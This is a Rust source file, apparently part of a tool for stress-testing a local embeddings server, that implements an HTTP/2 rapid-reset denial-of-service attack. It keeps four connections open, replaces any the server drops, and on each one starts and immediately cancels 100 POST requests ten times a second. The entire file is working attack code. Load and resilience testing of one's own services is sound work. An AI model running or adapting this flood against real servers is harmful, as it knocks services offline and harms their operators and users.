//! The abuse over HTTP/2 that makes a server work for answers that nobody waits for.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use h2::{Reason, client};
use tokio::net::TcpStream;

use crate::attacker::Counts;

const CONNECTIONS: usize = 4;
/// Of one connection, ten times a second.
const STREAMS: usize = 100;

pub(crate) async fn run(address: SocketAddr, counts: Counts) {
    let all = counts.clone();
    // A connection that the other side gives up is replaced.
    all.keep(CONNECTIONS, 4 * CONNECTIONS as u32, move |_| connection(address, counts.clone())).await;
}

async fn connection(address: SocketAddr, counts: Counts) {
    let Ok(stream) = TcpStream::connect(address).await else { return };
    let Ok((mut sender, connection)) = client::handshake(stream).await else { return };
    let mut tick = tokio::time::interval(Duration::from_millis(100));
    let abuse = async {
        loop {
            tick.tick().await;
            for _ in 0..STREAMS {
                let Some(next) = reset_one(sender, &counts).await else { return };
                sender = next;
            }
        }
    };
    tokio::select! {
        _ = connection => {}
        () = abuse => {}
    }
}

/// Begins a request that promises a body, and takes it back at once.
async fn reset_one(sender: SendRequest<Bytes>, counts: &Counts) -> Option<SendRequest<Bytes>> {
    let request = http_request()?;
    let mut sender = sender.ready().await.ok()?;
    let (answer, mut stream) = sender.send_request(request, false).ok()?;
    stream.send_reset(Reason::CANCEL);
    counts.begun();
    drop(answer);
    Some(sender)
}

fn http_request() -> Option<hyper::Request<()>> {
    hyper::Request::post("http://localhost/v1/embeddings")
        .header("content-type", "application/json")
        .body(())
        .ok()
}
